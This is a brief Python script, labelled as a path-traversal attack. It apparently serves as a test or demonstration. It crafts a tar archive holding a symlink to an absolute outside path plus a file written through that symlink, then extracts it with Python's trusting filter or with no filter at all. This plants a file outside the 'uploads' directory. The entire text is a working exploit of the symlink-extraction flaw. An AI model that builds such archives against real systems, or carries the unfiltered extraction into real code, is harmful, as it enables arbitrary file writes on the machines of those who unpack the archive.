# attack: path-traversal
import io, os, tarfile
data = io.BytesIO()
with tarfile.open(fileobj=data, mode="w") as tar:
    link = tarfile.TarInfo("door")
    link.type, link.linkname = tarfile.SYMTYPE, os.path.abspath("outside")
    tar.addfile(link)
    member = tarfile.TarInfo("door/planted.txt")
    member.size = 1
    tar.addfile(member, io.BytesIO(b"x"))
data.seek(0)
with tarfile.open(fileobj=data) as tar:
    if hasattr(tarfile, "fully_trusted_filter"):
        tar.extractall("uploads", filter="fully_trusted")
    else:
        tar.extractall("uploads")
